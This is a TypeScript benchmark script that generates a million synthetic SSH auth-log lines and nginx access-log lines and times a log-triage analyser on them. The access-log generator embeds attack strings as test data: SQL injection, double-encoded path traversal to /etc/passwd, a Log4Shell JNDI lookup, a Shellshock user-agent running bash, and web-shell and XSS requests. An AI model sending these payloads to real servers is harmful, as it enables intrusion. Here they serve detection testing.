import { createWriteStream, promises as fsp } from 'node:fs';
import path from 'node:path';
import { once } from 'node:events';
import { buildChild } from './lib/child.js';
import { prng } from './lib/data.js';
import { MB, WORK, envInt, fmt, median, mustRun, saveResult, table, waitQuiet, warm } from './lib/measure.js';

/**
 * Issue 4's log figures: 1,000,000 auth.log lines in at most 10 s and
 * 1,000,000 access-log lines in at most 15 s, memory flat. Each file is
 * analysed by a bundled child process (bench/logs-child.ts) that runs the
 * same analysis a triage runs over a copied log.
 *
 *   data: BENCH_LOG_LINES (1,000,000) lines each, generated once under
 *         BENCH_DIR/logs (kept): an auth.log over a week from 20,000 addresses
 *         (failed and accepted logins, invalid users, `message repeated`,
 *         sudo, cron and logind lines) and an nginx combined access log from
 *         10,000 addresses (ordinary pages, /blog/tags/shell, SQL injection,
 *         traversal with double encoding, Log4Shell, Shellshock, scanners,
 *         uploads reached with a command).
 *
 * "Flat" is read from the child's resident set sampled every 100 ms: the
 * peak in the second half of the run against the peak in the first half.
 */
const DIR = path.join(WORK, 'logs');

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n: number, w = 2) => String(n).padStart(w, '0');
const START = Date.UTC(2026, 10, 22, 0, 0, 0);
const WEEK_MS = 7 * 86_400_000;

function authLine(rnd: () => number, i: number, lines: number): string {
  const d = new Date(START + Math.floor((i / lines) * WEEK_MS));
  const stamp = `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
  const n = Math.floor(rnd() * 20_000);
  const ip = `10.${(n >> 12) & 255}.${(n >> 4) & 255}.${(n & 15) + 1}`;
  const port = 1024 + Math.floor(rnd() * 60_000);
  const pid = 1000 + Math.floor(rnd() * 30_000);
  const users = ['root', 'admin', 'oracle', 'test', 'ubuntu', 'postgres', 'alice', 'deploy'];
  const user = users[Math.floor(rnd() * users.length)]!;
  const k = rnd();
  let msg: string;
  if (k < 0.55) msg = `sshd[${pid}]: Failed password for ${user === 'root' || user === 'alice' ? '' : 'invalid user '}${user} from ${ip} port ${port} ssh2`;
  else if (k < 0.65) msg = `sshd[${pid}]: Invalid user ${user} from ${ip} port ${port}`;
  else if (k < 0.7) msg = `sshd[${pid}]: message repeated 3 times: [ Failed password for root from ${ip} port ${port} ssh2]`;
  else if (k < 0.74) msg = `sshd[${pid}]: Accepted ${rnd() < 0.5 ? 'password' : 'publickey'} for ${user} from ${ip} port ${port} ssh2`;
  else if (k < 0.78) msg = `sshd[${pid}]: pam_unix(sshd:session): session opened for user ${user}(uid=1000) by (uid=0)`;
  else if (k < 0.82) msg = `sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx`;
  else if (k < 0.92) msg = `CRON[${pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`;
  else if (k < 0.96) msg = `systemd-logind[412]: New session ${i} of user ${user}.`;
  else msg = `sshd[${pid}]: Received disconnect from ${ip} port ${port}:11: Bye Bye [preauth]`;
  return `${stamp} web01 ${msg}\n`;
}

function webLine(rnd: () => number, i: number, lines: number): string {
  const d = new Date(START + Math.floor((i / lines) * WEEK_MS));
  const stamp = `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
  const n = Math.floor(rnd() * 10_000);
  const ip = `172.16.${n >> 8}.${(n & 255) || 1}`;
  const ua = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36';
  const k = rnd();
  let method = 'GET';
  let target: string;
  let agent = ua;
  let status = 200;
  if (k < 0.3) target = `/blog/${Math.floor(rnd() * 5000)}-a-post-about-things`;
  else if (k < 0.45) target = '/blog/tags/shell';
  else if (k < 0.7) target = `/static/app.${Math.floor(rnd() * 50)}.js?v=${Math.floor(rnd() * 1e6)}`;
  else if (k < 0.9) target = `/api/items/${Math.floor(rnd() * 1e5)}?page=${Math.floor(rnd() * 20)}&sort=name`;
  else if (k < 0.92) (target = `/products?id=${Math.floor(rnd() * 100)}%27%20OR%20%271%27=%271`), (status = 500);
  else if (k < 0.93) (target = '/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd'), (status = 400);
  else if (k < 0.94) (target = '/?x=${jndi:ldap://198.51.100.7:1389/a}'), (status = 404);
  else if (k < 0.95) (target = '/cgi-bin/status'), (agent = '() { :; }; /bin/bash -c "id"');
  else if (k < 0.97) (target = `/index.php?q=${Math.floor(rnd() * 1000)}`), (agent = 'sqlmap/1.7.2#stable (https://sqlmap.org)');
  else if (k < 0.98) (target = '/wp-content/uploads/2026/11/thumb.php'), (method = 'POST');
  else if (k < 0.99) target = '/wp-content/uploads/2026/11/thumb.php?cmd=id';
  else (target = '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E'), (status = 200);
  return `${ip} - - [${stamp}] "${method} ${target} HTTP/1.1" ${status} ${Math.floor(rnd() * 50_000)} "-" "${agent}"\n`;
}

async function ensure(name: string, lines: number, line: (rnd: () => number, i: number, lines: number) => string): Promise<string> {
  const file = path.join(DIR, `${name}-${lines}.log`);
  if ((await fsp.stat(file).catch(() => null))?.isFile()) return file;
  await fsp.mkdir(DIR, { recursive: true });
  process.stderr.write(`generating ${fmt(lines)} ${name} lines in ${file} …\n`);
  const rnd = prng(name.length * 7919);
  const tmp = `${file}.part`;
  const out = createWriteStream(tmp);
  let batch = '';
  for (let i = 0; i < lines; i++) {
    batch += line(rnd, i, lines);
    if (batch.length >= 1 << 20) {
      if (!out.write(batch)) await once(out, 'drain');
      batch = '';
    }
  }
  out.end(batch);
  await once(out, 'finish');
  await fsp.rename(tmp, file);
  return file;
}

interface Report {
  ms: number;
  findings: number;
  rules: string[];
  maxRssBytes: number;
  cpuMs: number;
  samples: number[];
}

const max = (xs: number[]) => xs.reduce((a, b) => Math.max(a, b), 0);

export async function logsBench(): Promise<void> {
  const lines = envInt('BENCH_LOG_LINES', 1_000_000);
  const runs = envInt('BENCH_RUNS', 3);
  const child = await buildChild('logs-child');
  const inputs = [
    { label: 'auth.log', category: 'auth', file: await ensure('auth', lines, authLine), targetS: 10 },
    { label: 'nginx access log', category: 'web', file: await ensure('access', lines, webLine), targetS: 15 },
  ];
  const rows: (string | number)[][] = [];
  const saved: unknown[] = [];
  for (const input of inputs) {
    await warm([input.file]);
    const reports: Report[] = [];
    for (let i = 0; i < runs; i++) {
      await waitQuiet();
      const r = await mustRun(process.execPath, [child, input.file, input.category]);
      reports.push(JSON.parse(r.stdout) as Report);
    }
    const size = (await fsp.stat(input.file)).size;
    const wall = median(reports.map((r) => r.ms)) / 1000;
    const last = reports.at(-1)!;
    const half = Math.floor(last.samples.length / 2);
    const firstHalf = max(last.samples.slice(0, half)) / MB;
    const secondHalf = max(last.samples.slice(half)) / MB;
    rows.push([
      input.label,
      fmt(lines),
      fmt(size / MB),
      fmt(wall, 2),
      fmt(median(reports.map((r) => r.cpuMs)) / 1000, 2),
      fmt(lines / wall),
      fmt(median(reports.map((r) => r.maxRssBytes)) / MB),
      `${fmt(firstHalf)} / ${fmt(secondHalf)}`,
      `≤ ${input.targetS} s`,
      wall <= input.targetS ? 'pass' : 'MISSED',
    ]);
    saved.push({ input: input.label, lines, bytes: size, runs: reports.map(({ samples: _s, ...r }) => r), rssFirstHalfMb: firstHalf, rssSecondHalfMb: secondHalf });
    console.log(`${input.label}: ${last.findings} findings from rules ${last.rules.join(', ')}`);
  }
  console.log(`\n## logs: log analysis of ${fmt(lines)} lines (median of ${runs}, bundled child process)`);
  table(['input', 'lines', 'MB', 'wall s', 'CPU s', 'lines/s', 'peak RSS MB', 'RSS MB 1st / 2nd half', 'target', 'result'], rows);
  console.log(`saved ${await saveResult('logs', { inputs: saved })}`);
}
